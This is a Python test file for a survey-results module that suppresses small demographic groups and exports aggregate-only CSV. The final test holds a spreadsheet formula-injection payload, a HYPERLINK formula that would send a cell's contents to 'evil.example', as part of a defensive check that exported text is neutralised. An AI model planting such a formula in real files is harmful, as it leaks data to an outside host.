"""Survey results: counts per answer, and breakdowns that never single anyone out."""

from __future__ import annotations

import csv
import io

import pytest
from django.utils import timezone

from cms.models import SurveyQuestion
from cms.surveys.answers import Submission, record_response, with_questions
from cms.surveys.results import OTHER, results_csv, shown_groups, survey_results
from tests import survey_factories


def answer(
    survey,
    language: str,
    village: str = "",
    single: int = 0,
    scale: int | None = None,
    text: str = "",
    multiple: tuple[int, ...] = (),
) -> None:
    """One person's answers, through the same code the API and the site use."""
    survey = with_questions(type(survey).objects.filter(pk=survey.pk)).get()
    questions = {q.kind: q for q in survey.questions.all()}
    options = {kind: list(q.options.all()) for kind, q in questions.items()}
    answers: dict[str, object] = {str(questions["single"].pk): options["single"][single].pk}
    if multiple:
        answers[str(questions["multiple"].pk)] = [options["multiple"][i].pk for i in multiple]
    if scale is not None:
        answers[str(questions["scale"].pk)] = scale
    if text:
        answers[str(questions["text"].pk)] = text
    record_response(survey, Submission(language, answers, village), timezone.localdate())


@pytest.fixture
def survey(db):
    return survey_factories.survey()


def result_for(results, kind: str):
    return next(r for r in results.questions if r.question.kind == kind)


def columns(results) -> dict[str, int]:
    return {f"{c.breakdown}:{c.key}": c.size for c in results.columns}


@pytest.mark.parametrize(
    ("sizes", "shown", "other"),
    [
        ({"pl": 5}, ["pl"], False),
        ({"pl": 4}, [], False),
        ({"pl": 9, "ro": 5}, ["pl", "ro"], False),
        # bg alone (1) could be worked out as total minus pl minus ro: ro is hidden too.
        ({"pl": 9, "ro": 5, "bg": 1}, ["pl"], True),
        ({"pl": 9, "ro": 3, "bg": 2}, ["pl"], True),
        ({"pl": 9, "bg": 1}, [], False),
        ({"pl": 3, "bg": 1}, [], False),
    ],
)
def test_which_groups_may_be_shown(sizes, shown, other):
    assert shown_groups(sizes, 5) == (shown, other)


def test_a_group_of_four_is_hidden_and_a_group_of_five_is_shown(survey):
    for language, people in (("pl", 5), ("bg", 5), ("ro", 4), ("lt", 1)):
        for _ in range(people):
            answer(survey, language, "ochten" if language == "ro" else "", single=0)
    results = survey_results(survey)
    assert results.responses == 15
    # Romanian (4) and Lithuanian (1) only count together, as "other" (5).
    assert columns(results) == {"language:bg": 5, "language:pl": 5, f"language:{OTHER}": 5}
    # Ochten's 4 answers are hidden; "not given" (11) next to the total (15) would
    # give them away, so no village column is shown at all.
    village = next(b for b in results.breakdowns if b.name == "village")
    assert (village.columns, village.hidden_responses) == ([], 15)


def test_four_alone_with_a_visible_rest_hides_both(survey):
    for _ in range(5):
        answer(survey, "pl", single=0)
    for _ in range(4):
        answer(survey, "ro", single=1)
    results = survey_results(survey)
    # pl (5) shown with the total (9) would reveal ro (4): neither is shown.
    assert [c for c in columns(results) if c.startswith("language")] == []


def test_five_and_five_are_both_shown_with_their_counts(survey):
    for _ in range(5):
        answer(survey, "pl", "ochten", single=0, scale=4)
    for _ in range(5):
        answer(survey, "ro", "", single=1, scale=2)
    results = survey_results(survey)
    assert columns(results) == {
        "language:pl": 5,
        "language:ro": 5,
        "village:ochten": 5,
        "village:": 5,
    }
    single = result_for(results, "single")
    assert [(row.label, row.total) for row in single.rows] == [("Ja", 5), ("Nee", 5)]
    headings = [c.heading for c in results.columns]
    assert headings == [
        "language: Polish",
        "language: Romanian",
        "village: Not given",
        "village: Ochten",
    ]
    assert single.rows[0].cells == [5, 0, 0, 5]
    scale = result_for(results, "scale")
    assert [(row.label, row.total) for row in scale.rows] == [
        ("1", 0),
        ("2", 5),
        ("3", 0),
        ("4", 5),
        ("5", 0),
    ]


def test_small_groups_add_up_to_other_when_that_reaches_five(survey):
    for _ in range(6):
        answer(survey, "pl", single=0)
    for language in ("bg", "bg", "ro", "hu", "lt"):
        answer(survey, language, single=1)
    results = survey_results(survey)
    language_columns = {k: v for k, v in columns(results).items() if k.startswith("language")}
    assert language_columns == {"language:pl": 6, f"language:{OTHER}": 5}
    assert result_for(results, "single").rows[1].cells[:2] == [0, 5]


def test_multiple_choice_counts_every_option_and_texts_are_listed_without_who(survey):
    answer(survey, "pl", multiple=(0, 2), text="Meer taallessen")
    answer(survey, "pl", multiple=(2,), text="Een fiets")
    results = survey_results(survey)
    multiple = result_for(results, "multiple")
    assert [(row.label, row.total) for row in multiple.rows] == [
        ("Werk", 1),
        ("Wonen", 0),
        ("Taal", 2),
    ]
    assert result_for(results, "text").texts == ["Een fiets", "Meer taallessen"]


def test_the_csv_has_the_same_counts_the_same_suppression_and_no_rows_per_person(survey):
    for _ in range(5):
        answer(survey, "pl", "ochten", single=0)
    for _ in range(4):
        answer(survey, "ro", "hien", single=1, text="Werk in de kas")
    text = results_csv(survey_results(survey))
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    header = rows[0]
    assert header[:3] == ["question", "answer", "total"]
    assert not any("Romanian" in column or "Hien" in column for column in header)
    by_answer = {(row[0], row[1]): row for row in rows[1:]}
    assert by_answer[("Heeft u een huisarts?", "Ja")][2] == "5"
    assert by_answer[("Heeft u een huisarts?", "Nee")][2] == "4"
    assert by_answer[("Wat mist u?", "Werk in de kas")][2:] == [""] * (len(header) - 2)
    # Aggregates only: one line per answer option or text, never one per response.
    assert len(rows) == 1 + 2 + 3 + 5 + 4


def test_results_take_a_constant_number_of_queries(survey, django_assert_num_queries):
    for n in range(12):
        answer(survey, ["pl", "ro"][n % 2], "ochten", single=n % 2, scale=3, text=f"tekst {n}")
    with django_assert_num_queries(7):
        results = survey_results(survey)
    assert results.responses == 12
    assert SurveyQuestion.objects.filter(survey=survey).count() == 4


def test_a_blank_dutch_prompt_or_label_falls_back_to_english(db):
    """Results are labelled in Dutch by the one fallback rule: blank Dutch is missing."""
    blank = survey_factories.survey(
        questions=[
            {
                "kind": "single",
                "prompt": {"nl": "  ", "en": "Do you have a GP?", "pl": "Czy masz lekarza?"},
                "options": [{"nl": "\n", "en": "Yes", "pl": "Tak"}, {"nl": "Nee"}],
            }
        ]
    )
    [result] = survey_results(blank).questions
    assert result.prompt == "Do you have a GP?"
    assert [row.label for row in result.rows] == ["Yes", "Nee"]


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


def test_a_free_text_answer_that_looks_like_a_formula_stays_text_in_the_csv(survey):
    answer(survey, "pl", single=0, text=FORMULA)
    answer(survey, "pl", single=0, text="@SUM(1+1)")
    answer(survey, "pl", single=0, text="-2+3")

    rows = list(csv.reader(io.StringIO(results_csv(survey_results(survey)).lstrip("\ufeff"))))

    texts = [row[1] for row in rows if row[0] == "Wat mist u?"]
    assert sorted(texts) == sorted(["'" + FORMULA, "'@SUM(1+1)", "'-2+3"])
    # The counts we computed are numbers, not text: they are left as they are.
    assert all(row[2].isdigit() for row in rows[1:] if row[0] != "Wat mist u?")
